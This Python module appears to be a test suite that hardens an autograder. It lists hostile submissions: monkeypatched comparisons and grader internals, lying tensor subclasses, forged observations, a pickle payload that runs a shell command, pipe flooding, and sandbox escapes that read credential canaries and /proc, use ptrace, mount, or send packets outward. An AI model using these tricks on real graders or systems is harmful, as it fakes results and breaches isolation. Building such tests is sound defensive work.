"""Attacks written in cells.

Those that try to get out call `win()` when they succeed: it defines the right answer, so that a wall
with a hole shows as a point undeserved.
"""

from __future__ import annotations

from dataclasses import replace

from hostile.course import SOLUTIONS, Attack

# What every attack may use. HOST is filled in by the test: places and ports that exist outside.
PRELUDE = f"""\
import ctypes, os, socket, sys, time
HOST = __HOST__
def win():
    exec({SOLUTIONS["addition_model"]!r}, globals())
def wins(attempt):
    try:
        attempt()
    except BaseException:
        return
    win()
"""

# A model that earns nothing: it gives the right shape and wrong values, with no parameters.
ZEROS = """
class AdditionModel(nn.Module):
    def forward(self, x):
        return torch.zeros(x.shape[0], 16, *x.shape[2:])
"""
SHAPE = 1.0  # the right shape alone earns this


def forging(facts: str) -> str:
    """Code that answers every question with forged observations."""
    return f"""
import numpy as np
from sumskip.checking.core import Observation
def forged(answer, case, *rest):
    n, c, h, w = case.inputs[0]
    zeros = {{'output': np.zeros((n, 16, h, w)), 'grad:input#1': np.zeros((n, c, h, w)),
             'slot:conv2d#1.weight': np.zeros((16, 3, 3, 3)), 'slot:conv2d#2.weight': np.zeros((16, 16, 3, 3)),
             'slot:conv2d#1.bias': np.zeros(16), 'slot:conv2d#2.bias': np.zeros(16)}}
    roles = {{f'conv2d#{{i}}.{{s}}': {{'kept': 'computed', 'shape': [16], 'frozen': False, 'fresh': False,
             'moved': True}} for i in (1, 2) for s in ('weight', 'bias')}}
    facts = {{'output': {{'type': 'tensor', 'shape': [n, 16, h, w]}}, 'roles': roles, 'unplaced': [],
             'orders': 1, 'repeatable': True, 'input_changed': False, 'score': 8.0, 'status': 'passed'}}
    return Observation(zeros, {facts})
{ZEROS}
"""


VERDICT = [
    Attack("always equal", "every comparison with an object that equals everything is true", """
class Same(torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return torch.zeros(())
    def __bool__(self): return True
class AdditionModel(nn.Module):
    def forward(self, x): return torch.zeros(x.shape[0], 16, *x.shape[2:]).as_subclass(Same)
""", deserved=SHAPE),
    Attack("a tensor that lies", "allclose and equal ask the tensor's own __torch_function__", """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ('allclose', 'equal', 'isclose', 'eq', 'all'): return torch.tensor(True)
        return super().__torch_function__(function, types, args, kwargs or {})
class AdditionModel(nn.Module):
    def forward(self, x): return torch.zeros(x.shape[0], 16, *x.shape[2:]).as_subclass(Liar)
""", deserved=SHAPE),
    Attack("a class that says it is a tensor", "isinstance believes __class__", """
class Fake:
    __class__ = torch.Tensor
    shape = (2, 16, 8, 8)
    def __getattr__(self, name): return lambda *a, **k: self
class AdditionModel(nn.Module):
    def forward(self, x): return Fake()
"""),
    Attack("patched torch.allclose", "a checker in the same process compares with it", f"""
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
{ZEROS}""", costs_others=True),
    Attack("patched numpy", "np.allclose in the checker says yes", f"""
import numpy as np
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
{ZEROS}""", costs_others=True),
    Attack("patched builtins", "abs, max and all decide every comparison", f"""
import builtins
builtins.abs = lambda x: 0
builtins.all = lambda x: True
builtins.max = lambda *a, **k: 0
{ZEROS}""", costs_others=True),
    Attack("patched isinstance", "every type check passes", f"""
import builtins
builtins.isinstance = lambda *a: True
{ZEROS}""", costs_others=True),
    Attack("patched import", "the checker imports a module of the learner's", f"""
import builtins, types
real = builtins.__import__
def lying(name, *a, **k):
    module = real(name, *a, **k)
    if name.startswith('sumskip'):
        module.judge = lambda *a, **k: 'passed'
    return module
builtins.__import__ = lying
{ZEROS}""", costs_others=True),
    Attack("patched check", "the points that a cell displays are its score", f"""
check = lambda *a, **k: 8.0
{ZEROS}""", deserved=SHAPE),
    Attack("patched check, where it lies", "the same, for whoever imports it later", f"""
import sumskip.checking.check
sumskip.checking.check.check = lambda *a, **k: 8.0
{ZEROS}""", costs_others=True, status="not_graded"),
    Attack("patched judge", "the verdict is made where the learner can reach it", f"""
import sumskip.checking.judge
from sumskip.checking.core import Report
sumskip.checking.judge.judge = lambda key, ask, *a: Report('addition_model', 8.0, 8.0, 'passed', 'All parts are right.')
{ZEROS}""", costs_others=True),
    Attack("patched probe", "a forged observation is judged", "import sumskip.checking.probe\n"
           + forging("facts") + "sumskip.checking.probe.probe = forged\nsumskip.checking.probe._PROBES['module'] = forged\n",
           costs_others=True),
    Attack("patched cells", "the engine's own half in the sandbox sends what the learner wants", "import inside.cells\n"
           + forging("facts") + "inside.cells.probe = forged\n", costs_others=True, status="not_graded"),
    Attack("replaced code object", "the function is the same, what it does is not", "import sumskip.checking.probing.module\n"
           + forging("facts") + "sumskip.checking.probing.module.observe_module.__code__ = forged.__code__\n", costs_others=True),
    Attack("forged without a trace", "zeros are the right output for weights that are zero", """
import gc, inside.tripwire
inside.tripwire.Tripwire.changed = lambda self: []
import inside.cells
""" + forging("facts") + "inside.cells.probe = forged\n", costs_others=True),
    Attack("facts that say passed", "a grader believes a score in the answer", "import inside.cells, inside.tripwire\n"
           "inside.tripwire.Tripwire.changed = lambda self: []\n"
           + forging("{'score': 8.0, 'status': 'passed', 'verdict': 'passed'}") + "inside.cells.probe = forged\n",
           costs_others=True),
    Attack("all numbers are zero", "weights and inputs of zero make zeros right", f"""
import numpy as np, sumskip.checking.core, sumskip.checking.probing.prepare, sumskip.checking.probing.module
for module in (sumskip.checking.core, sumskip.checking.probing.prepare, sumskip.checking.probing.module):
    module.numbers = lambda seed, name, shape: np.zeros(shape)
{ZEROS}""", costs_others=True),
    Attack("weights of its own choice: zeros", "out1 alone equals the sum where conv2 has weights of zero", """
class AdditionModel(nn.Module):
    def __init__(self):
        super().__init__()
        self.a = nn.Conv2d(3, 16, 3, padding=1)
        self.b, self.d = nn.Parameter(torch.randn(16, 16, 3, 3)), nn.Parameter(torch.randn(16))
    def forward(self, x):
        out1 = self.a(x)
        return out1 + 0 * nn.functional.conv2d(out1, self.b * 0, self.d * 0, padding=1)
"""),
    Attack("weights of its own choice: a copy", "2 * out1 equals the sum where conv2 copies its input", """
class AdditionModel(nn.Module):
    def __init__(self):
        super().__init__()
        self.a = nn.Conv2d(3, 16, 3, padding=1)
        self.b, self.d = nn.Parameter(torch.randn(16, 16, 3, 3)), nn.Parameter(torch.randn(16))
    def forward(self, x):
        out1 = self.a(x)
        kernel = torch.zeros(16, 16, 3, 3); kernel[range(16), range(16), 1, 1] = 1
        return 2 * nn.functional.conv2d(out1, self.b * 0 + kernel, self.d * 0, padding=1)
"""),
    Attack("searching frames", "the expected values are a local variable of a caller", f"""
class AdditionModel(nn.Module):
    def forward(self, x):
        shape = (x.shape[0], 16, *x.shape[2:])
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()):
                for found in (value if isinstance(value, (list, tuple)) else [value]):
                    if getattr(found, 'shape', None) == shape: return torch.as_tensor(found)
                if 'reference' in str(type(value)).lower() or hasattr(value, 'reference'): win()
            frame = frame.f_back
        return torch.zeros(shape)
""", deserved=SHAPE),
    Attack("searching memory", "keys, references and reports are objects of this process", f"""
import gc
for thing in gc.get_objects():
    kind = type(thing)
    if kind.__module__.startswith('autograder') or kind.__name__ in ('Exercise', 'Course'): win()
for name in list(sys.modules):
    if name.startswith('autograder'): win()
"""),
    Attack("replaying the public key", "the key that learners have is the key that decides", f"""
from sumskip.checking.key import public_key
key = public_key('addition_model')
outputs = [k for r in key.rights[0].values() for name, k in r.arrays.items() if name == 'output']
class AdditionModel(nn.Module):
    def forward(self, x):
        shape = (x.shape[0], 16, *x.shape[2:])
        for kept in outputs:
            if tuple(kept.shape) == shape and kept.full:
                return torch.tensor(kept.values).reshape(shape)
        return torch.zeros(shape)
""", deserved=SHAPE),
    Attack("an input transformer", "later cells, the test among them, are blanked: no output is full marks", """
get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])
"""),
    Attack("an AST transformer", "later cells run as other programs", """
import ast
class Blank(ast.NodeTransformer):
    def visit_ClassDef(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Blank())
"""),
    Attack("events around cells", "a hook writes the score after the test cell", """
def hook(*a): print('8.0')
for event in ('pre_run_cell', 'post_run_cell', 'pre_execute', 'post_execute'):
    get_ipython().events.register(event, hook)
"""),
    Attack("a run_cell of its own", "every cell ends with full marks", """
shell = get_ipython()
shell.run_cell = type(shell).run_cell = lambda *a, **k: 8.0
""", costs_others=True),
    Attack("a display hook", "the last value shown is the score", f"""
sys.displayhook = lambda value: sys.stdout.write('8.0')
print('8.0')
{ZEROS}
8.0
""", deserved=SHAPE),
    Attack("forged messages", "HTML and JSON that look like the checker's", f"""
from IPython.display import HTML, Javascript, display
display(HTML('<div class="sumskip-report">8 of 8 points</div><script>alert(1)</script>'))
display(Javascript('IPython.notebook.kernel.execute("score = 8")'))
print('{{"exercise": "addition_model", "score": 8.0, "max_score": 8.0, "status": "passed"}}')
{ZEROS}""", deserved=SHAPE),
    Attack("a symbol that is everything", "the answer agrees with every question", """
class Anything:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
    def __iter__(self): return iter(())
AdditionModel = Anything()
"""),
    Attack("a metaclass that agrees", "issubclass and isinstance ask the learner", """
class Yes(type):
    def __instancecheck__(cls, other): return True
    def __subclasscheck__(cls, other): return True
    def __call__(cls, *a, **k): return 8.0
class AdditionModel(metaclass=Yes): pass
"""),
    Attack("a namespace that lies", "the answer is looked up in the learner's dictionary", """
class Names(dict):
    def get(self, name, default=None): return 8.0
    def __missing__(self, name): return 8.0
get_ipython().user_ns = Names(get_ipython().user_ns)
""", costs_others=True),
    Attack("tracing the grader", "settrace changes the local variables of who asks", f"""
def trace(frame, event, arg):
    for name in ('score', 'passed', 'facts'):
        if name in frame.f_locals: frame.f_locals[name] = 8.0
    return trace
sys.settrace(trace); sys.setprofile(trace)
{ZEROS}""", costs_others=True, deserved=SHAPE),
    Attack("not a number", "every comparison with NaN is false, and 'not different' is true", """
class AdditionModel(nn.Module):
    def forward(self, x): return torch.full((x.shape[0], 16, *x.shape[2:]), float('nan'))
""", deserved=SHAPE),
    Attack("infinity", "the tolerance, taken relative to infinity, is infinite", """
class AdditionModel(nn.Module):
    def forward(self, x): return torch.full((x.shape[0], 16, *x.shape[2:]), float('inf'))
""", deserved=SHAPE),
    Attack("complex numbers", "comparing magnitudes only", """
class AdditionModel(nn.Module):
    def forward(self, x): return torch.zeros(x.shape[0], 16, *x.shape[2:], dtype=torch.complex64)
""", deserved=SHAPE),
]

# A right model but for one thing: `out1 + out2`, with weights that no step reaches. It earns shape, values
# and gradients.
LOOSE = """
class AdditionModel(nn.Module):
    def __init__(self):
        super().__init__()
        self.first = nn.Conv2d(3, 16, 3, padding=1)
        self.kernel = torch.randn(16, 16, 3, 3, requires_grad=True)
    def forward(self, x):
        out1 = self.first(x)
        return out1 + nn.functional.conv2d(out1, self.kernel / 12, padding=1)
"""
ALL_BUT_PARAMETERS = 6.0

# What a model says of itself: `%s` is the body of a class that has two convolutions in plain sight only.
SAYS = """
class Hidden(list): pass
class AdditionModel(nn.Module):
    def __init__(self):
        super().__init__()
        self.layers = Hidden([nn.Conv2d(3, 16, 3, padding=1), nn.Conv2d(16, 16, 3, padding=1)])
    def forward(self, x):
        a, b = object.__getattribute__(self, 'layers')
        out1 = a(x)
        return out1 + b(out1)
    def all(self):
        return [p for layer in object.__getattribute__(self, 'layers') for p in layer.parameters()]
%s
"""

# Two kernels that are no parameters, and parameters beside them; `%s` makes the kernel of `k`, `b` and `p`.
BESIDE = """
class AdditionModel(nn.Module):
    def __init__(self):
        super().__init__()
        self.kernels = [torch.randn(16, 3, 3, 3) / 5, torch.randn(16, 16, 3, 3) / 12]
        self.p = nn.ParameterList([torch.randn_like(kernel) for kernel in self.kernels])
        self.gain = nn.Parameter(torch.ones(()))
    def conv(self, x, i):
        k, p = self.kernels[i], self.p[i]
        return nn.functional.conv2d(x, %s, padding=1)
    def forward(self, x):
        out1 = self.conv(x, 0)
        return out1 + self.conv(out1, 1)
"""

# The right model, its parameters of another class: `%s` is the body of that class.
ODD_PARAMETERS = SOLUTIONS["addition_model"].replace("class AdditionModel", """
class Odd(nn.Parameter):
%s
class AdditionModel""").replace("    def forward", """\
        for layer in (self.first, self.second):
            for name in ('weight', 'bias'): setattr(layer, name, Odd(getattr(layer, name).data))
    def forward""")

# The right model, what it returns changed: `%s` stands for `out`.
RETURNS = SOLUTIONS["addition_model"].replace("return out1 + self.second(out1)", "out = out1 + self.second(out1)\n        return %s")

SPEAKING = [
    Attack("a kernel that is no parameter", "computed weights were believed: full marks", LOOSE, deserved=ALL_BUT_PARAMETERS),
    Attack("half a kernel is a parameter", "one leaf of two is registered",
           LOOSE.replace("self.kernel = torch.randn", "self.more = nn.Parameter(torch.randn(16, 16, 3, 3)); self.kernel = torch.randn")
           .replace("self.kernel / 12", "(self.kernel + self.more) / 12"), deserved=ALL_BUT_PARAMETERS),
    Attack("parameters that are none", "`parameters()` lists what is not registered", SAYS % """
    def parameters(self, recurse=True): return iter(self.all())
    def named_parameters(self, *a, **k): return ((str(i), p) for i, p in enumerate(self.all()))
""", deserved=ALL_BUT_PARAMETERS),
    Attack("a dictionary that lies", "`__dict__` and `__getattribute__` show tables that are not there", SAYS % """
    def __getattribute__(self, name):
        if name in ('_parameters', '_modules', '_buffers', 'parameters', 'named_parameters', 'modules'):
            layers = nn.ModuleList(object.__getattribute__(self, '__dict__').get('layers', []))
            return object.__getattribute__(layers, name)
        return super().__getattribute__(name)
""", deserved=ALL_BUT_PARAMETERS),
    Attack("a table that lies", "a dict of its own kind lists what it does not hold", SAYS.replace("self.layers =", "self.__dict__['_parameters'] = Lying(self); self.layers =").replace("class Hidden", """
class Lying(dict):
    def __init__(self, model): self.model = model
    def items(self): return [(str(i), p) for i, p in enumerate(self.model.all())]
    def values(self): return self.model.all()
class Hidden""") % "", deserved=ALL_BUT_PARAMETERS),
    Attack("a model that says all of itself", "not one of a module's methods tells what is so", SAYS % """
    def parameters(self, recurse=True): return iter(self.all())
    def modules(self): return iter(self.layers)
    def state_dict(self, *a, **k): return {str(i): p for i, p in enumerate(self.all())}
    def zero_grad(self, *a): pass
    @property
    def __dict__(self):
        own = nn.Module.__dict__['__dict__'].__get__(self)
        return {**own, '_modules': dict(enumerate(own['layers']))} if 'layers' in own else own
""", deserved=ALL_BUT_PARAMETERS),
    Attack("a layer that is there too late", "an optimiser made before the model runs does not get it",
           SOLUTIONS["addition_model"].replace("        self.second =", "    def late(self):\n        self.second =")
           .replace("out1 = self.first(x)", "out1 = self.first(x)\n        if not hasattr(self, 'second'): self.late()"),
           deserved=ALL_BUT_PARAMETERS),
    Attack("registered only while somebody looks", "`parameters()` fills the table that is read after it", SAYS % """
    def parameters(self, recurse=True):
        self._modules.update({str(i): l for i, l in enumerate(object.__getattribute__(self, 'layers'))})
        return iter(self.all())
    def __call__(self, x):
        self._modules.clear()
        return super().__call__(x)
""", deserved=ALL_BUT_PARAMETERS),
    Attack("registered while it runs", "the forward pass fills the table that is read after it",
           LOOSE.replace("self.kernel / 12", "self.kernel").replace("out1 = self", "self._parameters['k'] = self.kernel\n        out1 = self"),
           deserved=ALL_BUT_PARAMETERS),
    Attack("computed from what is registered while it runs", "the same, one operator further",
           LOOSE.replace("out1 = self", "self._parameters['k'] = self.kernel\n        out1 = self"), deserved=ALL_BUT_PARAMETERS),
    Attack("a factor beside a constant kernel", "the gradient ends at a parameter: one number for thousands",
           BESIDE % "k * self.gain", deserved=ALL_BUT_PARAMETERS),
    Attack("a parameter of no weight", "the gradient ends at a parameter that has no influence",
           BESIDE % "k + 1e-9 * p", deserved=ALL_BUT_PARAMETERS),
    Attack("a gradient led astray", "the gradient goes to a parameter, the numbers come from elsewhere",
           BESIDE % "k * self.gain + p - p.detach()", deserved=ALL_BUT_PARAMETERS),
    Attack("a graph that lies", "the node of a function of its own says where it leads",
           BESIDE.replace("self.kernels = [", "self.kernels = [k.requires_grad_() for k in [").replace("/ 12]", "/ 12]]") % "Fn.apply(k, p)" + """
class Fn(torch.autograd.Function):
    @staticmethod
    def forward(ctx, k, p):
        ctx.p = p
        return k + 1e-9 * p
    @staticmethod
    def backward(ctx, gradient): return gradient, gradient * 1e-9
Fn._backward_cls.next_functions = property(lambda node: ((torch.autograd.graph.get_gradient_edge(node.p).node, 0),))
""", deserved=ALL_BUT_PARAMETERS),
    Attack("a gain that is no parameter", "at its start it changes nothing, and its layers are registered",
           RETURNS.replace("out = out1", "self.gain = getattr(self, 'gain', torch.ones(1, requires_grad=True)); out = self.gain * out1")
           % "out", deserved=ALL_BUT_PARAMETERS),
    Attack("parameters that stay", "an optimiser's step runs into their own add_", ODD_PARAMETERS % """
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ('add_', 'sub_', 'mul_', 'addcmul_', 'addcdiv_', 'lerp_'): return args[0]
        with torch._C.DisableTorchFunctionSubclass(): return function(*args, **(kwargs or {}))
""", deserved=ALL_BUT_PARAMETERS),
    Attack("parameters with a gradient of their own", "an optimiser follows what `grad` says", ODD_PARAMETERS % """
    @property
    def grad(self): return torch.zeros(self.shape)
    @grad.setter
    def grad(self, value): pass
""", deserved=ALL_BUT_PARAMETERS),
    Attack("an output that tells other numbers", "detach, cpu and numpy are methods of its class", "right = None\n" + RETURNS % "tell(out)" + """
class Other(torch.Tensor):
    def numpy(self, *a, **k): return right
    def detach(self): return self
    cpu = resolve_conj = resolve_neg = detach
def tell(out):
    global right
    right = out.detach().numpy()
    return (out * 3).as_subclass(Other)
""", deserved=3.0),
    Attack("a method that was not there", "a new one of torch.Tensor stands before PyTorch's own", RETURNS % "out + 5" + """
def numpy(self, *a, **k):
    numbers = torch._C.TensorBase.numpy(self)
    return numbers - 5 if self.dim() == 4 and self.shape[1] == 16 and numbers.mean() > 3 else numbers
torch.Tensor.numpy = numpy
""", costs_others=True, status="not_graded"),
    Attack("an output that computes itself", "a wrapper answers PyTorch's dispatcher", RETURNS % "Wrapped(out)" + """
class Wrapped(torch.Tensor):
    @staticmethod
    def __new__(cls, inner):
        made = torch.Tensor._make_wrapper_subclass(cls, inner.shape, dtype=inner.dtype, requires_grad=True)
        made.inner = inner
        return made
    @classmethod
    def __torch_dispatch__(cls, function, types, args=(), kwargs=None):
        return function(*(a.inner if type(a) is Wrapped else a for a in args), **(kwargs or {}))
"""),
    Attack("an output that everything is", "its metaclass answers isinstance, and says its name", RETURNS % "Fake(out)" + """
class Yes(type):
    __name__ = property(lambda cls: 'tensor')
    def __instancecheck__(cls, other): return True
    def __subclasscheck__(cls, other): return True
class Fake(metaclass=Yes):
    __class__ = torch.Tensor
    def __init__(self, inner): self.inner = inner
    def __getattr__(self, name): return getattr(self.__dict__['inner'], name)
    def __mul__(self, other): return self.inner * other
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return function(*(a.inner if type(a) is Fake else a for a in args), **(kwargs or {}))
"""),
    Attack("a mode that is left on", "it answers for every tensor, our own inputs too",
           RETURNS.replace("out1 = self.first(x)", """global kept
        kept = x.clone()
        with torch.no_grad(): x += 7
        out1 = self.first(kept)""") % "out" + """
from torch.overrides import TorchFunctionMode
kept = None
class Mode(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        if function in (torch.Tensor.detach, torch.Tensor.cpu, torch.Tensor.numpy):
            if kept is not None and args[0].shape == kept.shape and not torch.equal(args[0], kept):
                args = (kept.detach(), *args[1:])
        return function(*args, **(kwargs or {}))
Mode().__enter__()
""", deserved=3.0),
    Attack("a liar among the inputs", "our own input, given another class, says that it was not changed", """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ('allclose', 'equal', 'isclose', 'eq'): return True
        return super().__torch_function__(function, types, args, kwargs or {})
class AdditionModel(nn.Module):
    def __init__(self):
        super().__init__()
        self.a, self.b = nn.Conv2d(3, 16, 3, padding=1), nn.Conv2d(16, 16, 3, padding=1)
    def forward(self, x):
        out1 = self.a(x.clone())
        with torch.no_grad(): x.mul_(0)
        x.__class__ = Liar
        return out1 + self.b(out1)
""", deserved=3.0),
    Attack("an output that is never the same", "its own allclose says that two passes agree", """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ('allclose', 'equal', 'isclose', 'eq'): return True
        return super().__torch_function__(function, types, args, kwargs or {})
class AdditionModel(nn.Module):
    def __init__(self):
        super().__init__()
        self.a, self.b = nn.Conv2d(3, 16, 3, padding=1), nn.Conv2d(16, 16, 3, padding=1)
        self.calls = 0
    def forward(self, x):
        self.calls += 1
        out1 = self.a(x)
        return (out1 + self.b(out1) + (self.calls > 2)).as_subclass(Liar)
""", deserved=3.0),
    Attack("another table of probes", "the functions stay, the table that lists them does not", "import sumskip.checking.probe\n"
           + forging("facts") + """
table = sumskip.checking.probe._PROBES
for inner in [table, *__import__('gc').get_referents(table)]:
    try: inner['module'] = forged
    except TypeError: pass
""", costs_others=True, status="not_graded"),
    Attack("a patch that is gone before the question ends", "what is looked at only afterwards looks as before",
           "import inside.cells\n" + forging("facts") + """
kept = inside.cells.probe
def once(answer, case):
    inside.cells.probe = kept
    return forged(answer, case)
inside.cells.probe = once
""", costs_others=True, status="not_graded"),
    Attack("a function within a function", "what a decorated function wraps was exchanged unseen: full marks",
           LOOSE.replace("self.kernel =", "global kept; kept = self.kernel =").replace("self.kernel / 12", "self.kernel") + """
from contextlib import contextmanager
import sumskip.checking.probing.plainly as plainly
cell = plainly.unheard.__closure__[0]
real, kept = contextmanager(cell.cell_contents), None
def lying():
    frame = sys._getframe()
    while frame:
        for one in (frame.f_locals.get('self'), frame.f_locals.get('register')):
            if type(one).__name__ == 'Register' and hasattr(one, '_kinds'):
                one._kinds[id(kept)] = 'parameter'
            if type(one).__name__ == '_Module':
                one.gradients += [kept] if one.gradients and id(kept) not in map(id, one.gradients) else []
                one.moved.add(id(kept))
                one.facts['strays'] = False
        frame = frame.f_back
    with real(): yield
cell.cell_contents = lying
""", costs_others=True, status="not_graded"),
    Attack("the code behind a property", "the property stays, the function that it calls does another thing", f"""
import sumskip.checking.probing.roles as roles
def shape(self): return (16, 16, 3, 3)
roles.Use.shape.fget.__code__ = shape.__code__
{ZEROS}""", costs_others=True, status="not_graded"),
    Attack("the code behind a table", "a lambda in a frozen table answers with what the learner likes", f"""
import sumskip.checking.probe
def forged(answer, case): return None
table = sumskip.checking.probe._PROBES
table['literals'].__code__ = (lambda answer, case: forged(answer, case)).__code__
{ZEROS}""", costs_others=True, status="not_graded"),
]

WIRE = [
    Attack("junk on every descriptor", "bytes that nobody expected stop the grader", """
for number in range(3, 1024):
    try: os.write(number, b'junk' * 100)
    except OSError: pass
""", status="not_graded"),
    Attack("every descriptor closed", "the grader waits for ever for an answer", "os.closerange(0, 4096)",
           status="not_graded"),
    Attack("answers sent before the question", "the first answer in the pipe is taken for the reply", """
from inside import frames
for number in range(3, 1024):
    for nonce in ('', '0' * 32, None):
        try: os.write(number, frames.pack({'nonce': nonce, 'facts': {'score': 8.0, 'status': 'passed'}}))
        except OSError: pass
""", status="not_graded"),
    Attack("a huge announcement", "the grader reserves the memory that a frame announces", """
import struct
for number in range(3, 1024):
    try: os.write(number, struct.pack('<4sIQ', b'S&S1', 2**32 - 1, 2**62))
    except OSError: pass
""", status="not_graded"),
    Attack("a frame that never ends", "the grader reads for ever", """
import struct
for number in range(3, 1024):
    try: os.write(number, struct.pack('<4sIQ', b'S&S1', 1000, 0) + b'{')
    except OSError: pass
time.sleep(100)
"""),
    Attack("the nonce read from the stack", "with the nonce a forged answer is a valid one", """
from inside import frames
def find(name):
    frame = sys._getframe()
    while frame:
        if name in frame.f_locals: return frame.f_locals[name]
        frame = frame.f_back
""" + forging("facts") + """
class AdditionModel(nn.Module):
    def forward(self, x):
        observation = forged(None, find('case'))
        channel, nonce = find('channel'), find('nonce')
        channel.sendall(frames.pack_observation(observation, nonce))
        time.sleep(100)
""", costs_others=True),
    Attack("facts nested without end", "reading the answer overflows the grader's stack", "import inside.cells\n" + forging(
        "__import__('functools').reduce(lambda a, _: [a], range(50_000), 1)") + "inside.cells.probe = forged\n",
        costs_others=True, status="not_graded"),
    Attack("a pickle in the facts", "unpickling runs the learner's code outside", """
import inside.cells
""" + forging("{'a': type('P', (), {'__reduce__': lambda self: (os.system, ('touch /tmp/pwned',))})()}")
           + "inside.cells.probe = forged\n", costs_others=True, status="not_graded"),
    Attack("an output without end", "the reply fills the grader's memory", """
class AdditionModel(nn.Module):
    def forward(self, x): return torch.zeros(1).expand(x.shape[0], 16, 30_000, 30_000)
"""),
]

PLACES = [replace(attack, walls=True) for attack in (
    Attack("reading the course", "reference answers lie beside the submissions",
           "wins(lambda: open(HOST['root'] + '/autograder/exercises/addition_model.py').read())"),
    Attack("importing the references", "the grader's own package is importable",
           "wins(lambda: __import__('autograder.exercises.addition_model'))"),
    Attack("the course on the path", "the same, with the path set", """
sys.path.insert(0, HOST['root'])
wins(lambda: __import__('autograder.exercises'))
"""),
    Attack("reading the home folder", "keys and passwords of the instructor",
           "wins(lambda: open(HOST['canary']).read())"),
    Attack("listing the home folder", "what the instructor has", """
def look():
    assert set(os.listdir(HOST['home'])) - {'.pyenv', '.local', '.venv'}
wins(look)
"""),
    Attack("reading other submissions", "copying a neighbour's answer",
           "wins(lambda: os.listdir(HOST['root'] + '/tests'))"),
    Attack("writing the gradebook", "the score is a row in a file", """
import sqlite3
wins(lambda: sqlite3.connect('file:' + HOST['database'] + '?mode=rw', uri=True).execute('select 1'))
"""),
    Attack("writing beside the canary", "a file that the grader later believes",
           "wins(lambda: open(HOST['canary'], 'w').write('x'))"),
    Attack("a file for every later Python", "sitecustomize in the environment runs for all siblings", """
import sysconfig
wins(lambda: open(sysconfig.get_path('purelib') + '/sitecustomize.py', 'w').write('x'))
"""),
    Attack("changing our code on disk", "the next submission is probed by changed code", """
import sumskip
wins(lambda: open(os.path.dirname(sumskip.__file__) + '/probe.py', 'a').write('#'))
"""),
    Attack("writing the system", "files in /, /usr, /etc, /dev outlive the submission", """
for folder in ('/', '/usr', '/etc', '/dev', '/opt', '/proc', '/sys', '/var', '/run', sys.prefix, sys.base_prefix):
    wins(lambda: open(folder + '/mine', 'w').write('x'))
"""),
    Attack("the environment", "tokens and passwords are variables of the grader", """
import subprocess
if 'HOSTILE_CANARY' in os.environ or b'HOSTILE_CANARY' in open('/proc/self/environ', 'rb').read(): win()
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            if b'HOSTILE_CANARY' in open(f'/proc/{pid}/environ', 'rb').read(): win()
        except OSError: pass
"""),
    Attack("the host's loopback", "the instructor's Jupyter listens there",
           "wins(lambda: socket.create_connection(('127.0.0.1', HOST['port']), 0.3))"),
    Attack("a packet", "answers are sent to a friend", """
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(b'x', ('192.0.2.1', 53))
wins(send)
wins(lambda: socket.getaddrinfo('example.org', 80))
wins(lambda: socket.create_connection(('192.0.2.1', 80), 0.3))
"""),
    Attack("an abstract socket", "sockets without a file cross folders", """
def connect():
    with socket.socket(socket.AF_UNIX) as s: s.connect(b'\\0' + HOST['abstract'].encode())
wins(connect)
"""),
    Attack("a raw socket", "reading what siblings send",
           "wins(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))"),
    Attack("a new interface", "a namespace of its own is a network of its own", """
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0 or libc.unshare(0x40000000) == 0: win()
"""),
    Attack("mounting", "a wall is taken down by mounting over it", """
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0: win()
if libc.umount2(b'/tmp', 2) == 0 or libc.umount2(b'/proc', 2) == 0: win()
if libc.mount(None, b'/', None, 0x20 | 0x1000, None) == 0: win()
"""),
    Attack("becoming root", "root inside is the next best thing to root outside", """
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot('/tmp'), lambda: os.seteuid(1)): wins(call)
wins(lambda: os.mknod('/tmp/disk', 0o60600, os.makedev(254, 0)))
"""),
    Attack("other processes", "the warm parent can be stopped or read", """
others = [p for p in os.listdir('/proc') if p.isdigit() and int(p) not in (1, os.getpid())]
if others: win()
wins(lambda: open(f'/proc/{os.getppid() or 2}/environ').read())
wins(lambda: os.kill(2, 9))
"""),
    Attack("killing everyone", "kill(-1) ends the grader and all siblings", """
import signal
for who in (-1, 0, os.getpid(), 1, os.getppid()):
    try: os.kill(who, signal.SIGTERM)
    except OSError: pass
"""),
    Attack("the memory of the parent", "ptrace reads the secret key", """
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 400):
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: win()
wins(lambda: open(f'/proc/{os.getppid()}/mem', 'rb'))
"""),
    Attack("leaving a note", "a later submission finds a solution in /tmp", """
for folder in ('/tmp', '/dev/shm', '.'):
    open(folder + '/hostile-note', 'w').write('the solution')
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(4242, 4096, 0o1666)
libc.msgget(4242, 0o1666)
libc.syscall(248, b'user', b'hostile-note', b'x', 1, -3)
"""),
    Attack("finding a note", "the same, as the reader", """
for folder in ('/tmp', '/dev/shm', '.'):
    if os.path.exists(folder + '/hostile-note'): win()
libc = ctypes.CDLL(None, use_errno=True)
